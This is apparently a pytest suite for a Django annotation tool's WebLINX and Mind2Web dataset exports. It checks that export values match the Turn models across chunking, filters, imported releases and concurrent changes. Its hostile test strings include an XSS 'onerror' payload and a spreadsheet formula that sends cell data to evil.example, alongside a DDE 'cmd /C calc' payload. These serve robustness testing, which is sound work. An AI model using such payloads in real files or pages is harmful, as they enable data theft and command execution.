"""Outside attack on the turn rows of an export (``dataset.TurnRow``, ``turn_rows``, ``batches``) and on the Mind2Web
record written as pieces (``task_record``): whatever review did, wherever a demo falls in a chunk, whatever a split or
name filter leaves, with imported demos among recorded ones, hostile text, another project's demos, several projects
at once and turns changing while the job reads, an export makes the values the ``Turn`` models make
(``to_export_demo(demo, split, scheme)``), and the Mind2Web split files are the bytes the record joined into one
string made."""

import contextlib
import io
import json
import math

import pytest
from django.core.management import call_command
from django.db import DataError, connection, transaction
from django.db.models import JSONField, QuerySet, Value
from django.test.utils import CaptureQueriesContext

from annotation.actions.exports.splits import selected_demos, split_of
from annotation.models import (
    EXPORTABLE_STATUSES,
    Demonstration,
    DemoReview,
    DemoStatus,
    Evaluation,
    ExportJob,
    Project,
    Role,
    Turn,
    TurnCuration,
)
from tests.support import mind2web_release, weblinx_release
from tests.support.actors import make_user, token_client
from tests.support.corpus import ingest_corpus
from workers.exports import dataset, jobs
from workers.exports.dataset import TurnRow, export_demos, storage_blobs, to_export_demo
from workers.exports.exporters import get_exporter
from workers.exports.exporters.mind2web import (
    MIND2WEB_SPLITS,
    Mind2WebExporter,
    PageSource,
    annotation_id,
    confirmed_task,
    steps,
    website,
)
from workers.exports.mind2web_steps import process_demo

ODD = mind2web_release.ODD + " \U0001f9ea\U00010348 </script><img src=x onerror=alert(1)> \u202e \ufeff \\ \" '"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click") +cmd|\' /C calc\'!A0 @SUM(1) -1'


# --- helpers ---------------------------------------------------------------------------------------------------


def from_models(project, scheme, statuses=EXPORTABLE_STATUSES, splits=None, names=()) -> list:
    """The export values as the ``Turn``-model path makes them: each demo read on its own, ``demo.turns``."""
    split = split_of(project, scheme)
    values = []
    for demo in selected_demos(project, statuses):
        if names and demo.name not in names:
            continue
        demo = Demonstration.objects.get(pk=demo.pk)  # nothing prefetched: the turns read as models
        if not splits or split(demo) in splits:
            values.append(to_export_demo(demo, split(demo), scheme))
    return values


def curate(demo, hostile=ODD) -> None:
    """Every review edit on ``demo``: a partial reversed order naming a stranger's id and an unknown one, a turn
    deleted, chat / typed / change texts edited with hostile text, a screenshot marked invalid and another chosen,
    a target element chosen."""
    turns = list(demo.turns.order_by("timestamp", "seq"))
    stranger = Turn.objects.exclude(demonstration=demo).values_list("pk", flat=True).first() or 0
    order = [turn.pk for turn in reversed(turns)][: len(turns) // 2 + 1] + [stranger, 10**9]
    DemoReview.objects.update_or_create(demonstration=demo, defaults={"order": order})
    first_of = {intent: next((t for t in turns if t.intent == intent), None) for intent in ("textInput", "change")}
    chat = next((t for t in turns if t.type == "chat"), None)
    clicks = [t for t in turns if t.intent == "click"]
    edited = {turns[1].pk}
    TurnCuration.objects.create(turn=turns[1], demonstration=demo, deleted=True)
    for turn, text in ((chat, hostile), (first_of["textInput"], FORMULA), (first_of["change"], hostile)):
        if turn is not None and turn.pk not in edited:
            TurnCuration.objects.create(turn=turn, demonstration=demo, text=text)
            edited.add(turn.pk)
    clicks = [t for t in clicks if t.pk not in edited]
    if len(clicks) >= 2:
        TurnCuration.objects.create(turn=clicks[0], demonstration=demo, valid=False, screenshot=clicks[1].screenshot_id)
        element = {**(clicks[1].arguments.get("element") or {}), "attributes": {"data-webtasks-id": "chosen"}}
        TurnCuration.objects.create(turn=clicks[1], demonstration=demo, element=element, text="")


def import_releases(project, tmp_path) -> None:
    """The Mind2Web and the WebLINX test releases imported into ``project``; one imported task changed by review."""
    make_user("admin-x", project, Role.ADMIN)
    release = mind2web_release.write_release(tmp_path / "m2w")
    out = io.StringIO()
    call_command("import_mind2web", str(release / "test_task.json"), "--project", project.name, stdout=out)
    call_command("import_mind2web", str(release / "train.json"), "--project", project.name, stdout=out)
    root = weblinx_release.write_release(tmp_path / "wl")
    call_command("import_weblinx", str(root), "--project", project.name, "--user", "admin-x", stdout=out)
    changed = Demonstration.objects.get(project=project, source_id="t-plain")
    typed = changed.turns.get(client_id="t-plain-1")
    TurnCuration.objects.create(turn=typed, demonstration=changed, text=FORMULA)


def pre_change_split_files(values) -> dict:
    """The Mind2Web split files as written before the change: each record one string (``json.dumps`` of the head,
    its actions joined with ", "), encoded whole."""
    records = {split: [] for split in MIND2WEB_SPLITS}
    with storage_blobs() as blobs:
        for value in values:
            if value.rejected or value.discarded:
                continue
            original = dict(value.original).get("task.json")
            if original:
                text = blobs.read(original).decode("utf-8")
            else:
                done = steps(value, PageSource(blobs))
                head = {
                    "annotation_id": annotation_id(value),
                    "website": website(value),
                    "domain": value.category,
                    "subdomain": value.subcategory,
                    "confirmed_task": confirmed_task(value),
                    "action_reprs": [step.repr for step in done],
                }
                actions = ", ".join(step.action for step in done)
                text = f'{json.dumps(head, ensure_ascii=False)[:-1]}, "actions": [{actions}]}}'
            records[value.split].append(text.encode("utf-8"))
    joined = {}
    for split, texts in records.items():
        body = b"".join((b",\n" if number else b"\n") + text for number, text in enumerate(texts))
        joined[split] = b"[" + body + (b"\n]\n" if texts else b"]\n")
    return joined


def strings(value):
    """Every string in a JSON value, at any depth."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


class Capturing:
    """An exporter that keeps the values it is handed, then exports them with the real one."""

    def __init__(self, real, kept: list):
        self.real, self.kept = real, kept

    def __getattr__(self, name):
        return getattr(self.real, name)

    def export(self, demos, *args, **kwargs):
        values = list(demos)
        self.kept.extend(values)
        return self.real.export(iter(values), *args, **kwargs)


def capture_exports(monkeypatch, module) -> list:
    kept = []
    monkeypatch.setattr(module, "get_exporter", lambda *a, **k: Capturing(get_exporter(*a, **k), kept))
    return kept


@pytest.fixture
def mixed(alpha, tmp_path, media_storage):
    """alpha: five recorded demos (one curated, one emptied of turns, one rejected, one discarded) among the imported
    releases' demos, every one of them an exportable status; their Mind2Web steps processed."""
    import_releases(alpha, tmp_path)
    recorded = ingest_corpus("alpha", demos=5, turns=24)
    Demonstration.objects.filter(project=alpha).exclude(status=DemoStatus.RECORDING).update(status=DemoStatus.VALIDATED)
    curate(recorded[0])
    Turn.objects.filter(demonstration=recorded[1]).delete()  # a demo of no turns
    Demonstration.objects.filter(pk=recorded[2].pk).update(status=DemoStatus.REJECTED)
    Demonstration.objects.filter(pk=recorded[3].pk).update(discarded=True)
    Demonstration.objects.filter(pk=recorded[4].pk).update(task_description=ODD, refined_task=FORMULA)
    for demo in Demonstration.objects.filter(project=alpha):
        process_demo(demo)
    return alpha, recorded


# --- the values are the models' ----------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("scheme", ["weblinx", "mind2web"])
def test_a_mixed_project_exports_the_models_values_at_every_chunk_size(mixed, scheme):
    project, recorded = mixed
    expected = from_models(project, scheme)
    kinds = {value.release_format for value in expected}
    assert kinds == {"", "mind2web", "weblinx"}  # recorded and both releases' demos among them
    assert any(not value.turns for value in expected)  # the emptied demo
    assert any(value.rejected for value in expected)
    assert any(value.discarded for value in expected)
    for chunk in (1, 2, 3, 4, 7, 1000):
        assert list(export_demos(project, scheme, EXPORTABLE_STATUSES, chunk=chunk)) == expected, chunk
    curated = next(value for value in expected if value.name == recorded[0].name)
    texts = {turn.utterance for turn in curated.turns} | {turn.arguments.get("text") for turn in curated.turns}
    assert ODD in texts
    assert FORMULA in texts
    assert "broken" in {turn.screenshot_status for turn in curated.turns}


@pytest.mark.django_db
@pytest.mark.parametrize("scheme", ["weblinx", "mind2web"])
def test_every_split_and_name_filter_exports_the_models_values_at_chunk_boundaries(mixed, scheme):
    project, recorded = mixed
    everything = from_models(project, scheme)
    splits = sorted({value.split for value in everything})
    assert len(splits) > 1
    names = [value.name for value in everything]
    some = [*names[::3], recorded[0].name, "no-such-demo"]
    for chunk in (1, 2, 3):
        for split in splits:
            wanted = from_models(project, scheme, splits=[split])
            assert list(export_demos(project, scheme, EXPORTABLE_STATUSES, [split], chunk=chunk)) == wanted
            named = from_models(project, scheme, splits=[split], names=some)
            assert list(export_demos(project, scheme, EXPORTABLE_STATUSES, [split], chunk, some)) == named
        assert list(export_demos(project, scheme, EXPORTABLE_STATUSES, chunk=chunk, names=some)) == [
            value for value in everything if value.name in some
        ]
        assert list(export_demos(project, scheme, EXPORTABLE_STATUSES, ["no-such-split"], chunk=chunk)) == []


@pytest.mark.django_db
def test_only_validated_demos_leave_by_default_and_their_values_are_the_models(mixed):
    project, _ = mixed
    Demonstration.objects.filter(project=project, name__in=[d.name for d in mixed[1][:2]]).update(
        status=DemoStatus.IN_REVIEW
    )
    for scheme in ("weblinx", "mind2web"):
        expected = from_models(project, scheme, dataset.DEFAULT_STATUSES)
        assert {value.status for value in expected} == {DemoStatus.VALIDATED}
        assert list(export_demos(project, scheme, chunk=2)) == expected


@pytest.mark.django_db
def test_a_recorded_demo_reads_rows_and_an_imported_one_models_one_turn_query_a_chunk(mixed):
    project, _ = mixed
    demos = list(selected_demos(project, EXPORTABLE_STATUSES))
    chunk = 3
    with CaptureQueriesContext(connection) as queries:
        values = list(export_demos(project, "weblinx", EXPORTABLE_STATUSES, chunk=chunk))
    assert len(values) == len(demos)
    turn_queries = [q["sql"] for q in queries.captured_queries if 'FROM "annotation_turn"' in q["sql"]]
    assert len(turn_queries) <= 2 * math.ceil(len(demos) / chunk)  # rows, and models for imported ones
    assert TurnRow._fields == (
        "pk",
        *("client_id", "seq", "type", "timestamp", "speaker", "utterance", "intent", "arguments"),
        *("screenshot_id", "page_id", "bboxes_id", "har_id", "dom_snapshot_id"),
    )


@pytest.mark.django_db
def test_turns_with_odd_stored_shapes_export_as_their_models_do(alpha, media_storage):
    """Arguments that are not objects (a list, a string, a number, JSON null), a timestamp shared by two turns,
    negative, huge and infinite times, and hostile utterances stored straight in the table."""
    demo = ingest_corpus("alpha", demos=1, turns=12)[0]
    seq = demo.turns.count()
    shapes = [[1, "x"], '=HYPERLINK("x")', 7, None, {"text": ODD, "element": None}, {"value": FORMULA}]
    times = [0.0, 0.0, -1.5, 1e300, math.inf, -math.inf]
    for number, (arguments, moment) in enumerate(zip(shapes, times, strict=True)):
        Turn.objects.create(
            demonstration=demo,
            client_id=f"odd-{number}",
            seq=seq + number,
            type="chat" if number % 2 else "browser",
            timestamp=moment,
            speaker="instructor" if number % 2 else "",
            utterance=ODD if number % 2 else FORMULA,
            intent="" if number % 2 else "textInput",
            arguments=arguments if arguments is not None else {},
        )
    Turn.objects.filter(client_id="odd-3").update(arguments=Value(None, JSONField()))  # JSON null
    for scheme in ("weblinx", "mind2web"):
        assert list(export_demos(alpha, scheme, EXPORTABLE_STATUSES, chunk=1)) == from_models(alpha, scheme)
    keys = [turn.key for turn in from_models(alpha, "weblinx")[0].turns]
    assert keys[0] == "odd-5"
    assert keys[-1] == "odd-4"
    assert keys.index("odd-0") < keys.index("odd-1")  # a shared time: the seq decides


@pytest.mark.django_db
@pytest.mark.parametrize(
    "store",
    [
        lambda demo: Turn.objects.create(demonstration=demo, client_id="s", seq=999, type="chat", utterance="\ud800"),
        lambda demo: Turn.objects.create(
            demonstration=demo, client_id="s", seq=999, type="chat", arguments={"text": "\udfff"}
        ),
        lambda demo: TurnCuration.objects.create(turn=demo.turns.first(), demonstration=demo, text="a\udc80b"),
        lambda demo: Demonstration.objects.filter(pk=demo.pk).update(task_description="\ud83d"),
        lambda demo: Turn.objects.create(demonstration=demo, client_id="s", seq=999, type="chat", utterance="\x00"),
    ],
    ids=["utterance", "arguments", "curation", "task", "nul"],
)
def test_a_lone_surrogate_or_nul_cannot_be_stored_so_no_export_meets_one(alpha, store):
    demo = ingest_corpus("alpha", demos=1, turns=6)[0]
    with pytest.raises((UnicodeEncodeError, ValueError, DataError)), transaction.atomic():
        store(demo)
    assert list(export_demos(alpha, "weblinx", EXPORTABLE_STATUSES)) == from_models(alpha, "weblinx")


# --- another project, several projects --------------------------------------------------------------------------


@pytest.mark.django_db
def test_another_projects_demos_and_turns_never_reach_an_export_even_by_name(alpha, beta, media_storage):
    mine = ingest_corpus("alpha", demos=3, turns=12, seed=7)
    theirs = ingest_corpus("beta", demos=3, turns=12, seed=8)
    for demo in theirs:  # a curation and an order of theirs naming my turns
        turn = mine[0].turns.first()
        DemoReview.objects.create(demonstration=demo, order=list(mine[0].turns.values_list("pk", flat=True)))
        TurnCuration.objects.filter(turn=turn).delete()
        TurnCuration.objects.create(turn=turn, demonstration=demo, text="beta's edit of alpha's turn")
    names = [demo.name for demo in mine + theirs]
    for chunk in (1, 2, 3):
        values = list(export_demos(alpha, "weblinx", EXPORTABLE_STATUSES, chunk=chunk, names=names))
        assert [value.name for value in values] == [demo.name for demo in mine]
        assert {value.project for value in values} == {"alpha"}
        assert values == from_models(alpha, "weblinx")
        for value, demo in zip(values, mine, strict=True):
            assert {turn.key for turn in value.turns} <= set(demo.turns.values_list("client_id", flat=True))
        assert "beta's edit of alpha's turn" not in {t.utterance for v in values for t in v.turns}
    assert list(export_demos(alpha, "weblinx", EXPORTABLE_STATUSES, names=[theirs[0].name])) == []


@pytest.mark.django_db
def test_export_dataset_over_every_project_writes_each_projects_models_values(
    alpha, beta, media_storage, tmp_path, monkeypatch
):
    from workers.management.commands import export_dataset

    ingest_corpus("alpha", demos=3, turns=12, seed=7)
    ingest_corpus("beta", demos=2, turns=12, seed=8)
    Project.objects.create(name="empty", title="Empty")
    curate(Demonstration.objects.filter(project=beta).order_by("name").first())
    for scheme in ("weblinx", "mind2web"):
        kept = capture_exports(monkeypatch, export_dataset)
        out = io.StringIO()
        call_command("export_dataset", "--format", scheme, "--out", str(tmp_path / scheme), stdout=out)
        expected = [value for project in Project.objects.all() for value in from_models(project, scheme, ["validated"])]
        assert kept == expected
        assert "Exported 5 demonstrations" in out.getvalue()


# --- the jobs: export, evaluation, prediction runs ---------------------------------------------------------------


@pytest.mark.django_db
def test_an_evaluation_exports_its_split_as_the_models_make_it(mixed, tmp_path, monkeypatch):
    project, _ = mixed
    owner = make_user("researcher-e", project, Role.RESEARCHER)
    for scheme in ("mind2web", "weblinx"):
        split = next(value.split for value in from_models(project, scheme, ["validated"]) if value.turns)
        kept = capture_exports(monkeypatch, jobs)
        evaluation = Evaluation.objects.create(project=project, owner=owner, format=scheme, split=split, predictions=[])
        with contextlib.suppress(Exception):  # no predictions: scoring may refuse; the export came first
            jobs.evaluate(evaluation, tmp_path / f"work-{scheme}")
        assert kept == from_models(project, scheme, ["validated"], splits=[split])
        assert kept


@pytest.mark.django_db
def test_a_prediction_run_exports_its_split_as_the_models_make_it(mixed, tmp_path, monkeypatch):
    from annotation.models import PredictionRun
    from workers.agents import predict_runs

    project, _ = mixed
    owner = make_user("researcher-p", project, Role.RESEARCHER)
    split = next(value.split for value in from_models(project, "weblinx", ["validated"]) if value.turns)
    kept = capture_exports(monkeypatch, predict_runs)
    run = PredictionRun.objects.create(project=project, owner=owner, format="weblinx", split=split)
    with contextlib.suppress(Exception):  # no endpoint: the run fails after its export
        predict_runs.execute(run, tmp_path / "work")
    assert kept
    assert kept == from_models(project, "weblinx", ["validated"], splits=[split])


# --- Mind2Web split files, byte for byte ------------------------------------------------------------------------


@pytest.mark.django_db
def test_mind2web_split_files_are_the_bytes_one_joined_record_string_made(mixed, tmp_path):
    project, _ = mixed
    expected = pre_change_split_files(from_models(project, "mind2web"))
    for chunk in (1, 3):
        out = tmp_path / f"out-{chunk}"
        with storage_blobs() as blobs:
            Mind2WebExporter().export(export_demos(project, "mind2web", EXPORTABLE_STATUSES, chunk=chunk), out, blobs)
        for split in MIND2WEB_SPLITS:
            written = (out / f"{split}.json").read_bytes()
            assert written == expected[split], split
            records = json.loads(written)
            assert all(set(record) >= {"annotation_id", "actions", "action_reprs"} for record in records)
    found = set(strings([json.loads(expected[split]) for split in MIND2WEB_SPLITS]))
    assert FORMULA in found  # a refined task; the hostile texts review wrote reach a record only when the synthetic
    assert "t-plain" in found  # demo's edited turn is a step (a change on a <select> exports the option's text)


@pytest.mark.django_db(transaction=True)
def test_a_mind2web_job_read_ahead_on_its_own_connection_writes_the_joined_records_bytes(mixed, tmp_path):
    project, _ = mixed
    researcher = make_user("researcher-j", project, Role.RESEARCHER)
    expected = pre_change_split_files(from_models(project, "mind2web", ["recorded", "in_review", "validated"]))
    out = mind2web_release.mind2web_export(token_client(researcher), tmp_path, "job")
    assert ExportJob.objects.get().status == "done"
    for split in MIND2WEB_SPLITS:
        assert (out / f"{split}.json").read_bytes() == expected[split], split


# --- turns changing under the job -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_turns_added_and_deleted_between_the_demo_query_and_the_turn_query_neither_crash_nor_mix_demos(
    alpha, media_storage, monkeypatch
):
    demos = ingest_corpus("alpha", demos=6, turns=12)
    real, gone = dataset.turn_rows, {demos[4].name}

    def changing(demo_ids):
        for pk in demo_ids:  # each chunk's demos change once its demos are read, before their turns are
            demo = Demonstration.objects.filter(pk=pk).first()
            if demo is None:
                continue
            last = demo.turns.order_by("-seq").first()
            Turn.objects.create(
                demonstration=demo,
                client_id=f"late-{demo.name}",
                seq=last.seq + 1,
                type="chat",
                timestamp=last.timestamp + 1,
                speaker="navigator",
                utterance=f"late in {demo.name}",
            )
            demo.turns.filter(seq=0).delete()
        Demonstration.objects.filter(pk=demos[4].pk).delete()  # a whole demo, turns and all
        return real(demo_ids)

    monkeypatch.setattr(dataset, "turn_rows", changing)
    values = list(export_demos(alpha, "weblinx", EXPORTABLE_STATUSES, chunk=2))
    assert [value.name for value in values] == [demo.name for demo in demos]
    for value in values:
        lates = [turn.utterance for turn in value.turns if turn.key.startswith("late-")]
        assert lates == ([] if value.name in gone else [f"late in {value.name}"])
    after = {value.name: value for value in from_models(alpha, "weblinx")}
    assert [value for value in values if value.name not in gone] == list(after.values())
    assert next(value for value in values if value.name in gone).turns == ()


# --- DEFECT (left failing on purpose) ---------------------------------------------------------------------------


@pytest.mark.django_db
def test_an_export_leaves_no_demo_held_by_a_module_wide_queryset(mixed):
    """Django's prefetch notes its first instance on the queryset it is given (``_add_hints``): a queryset kept at
    module level and handed to every export's ``Prefetch`` would keep the last chunk's first imported demo, with its
    prefetched turns, for the life of the worker (found by the outside attack; each call now makes its own)."""
    project, _ = mixed
    list(export_demos(project, "weblinx", EXPORTABLE_STATUSES, chunk=3))
    held = [name for name, value in vars(dataset).items() if isinstance(value, QuerySet) and value._hints]
    assert held == []
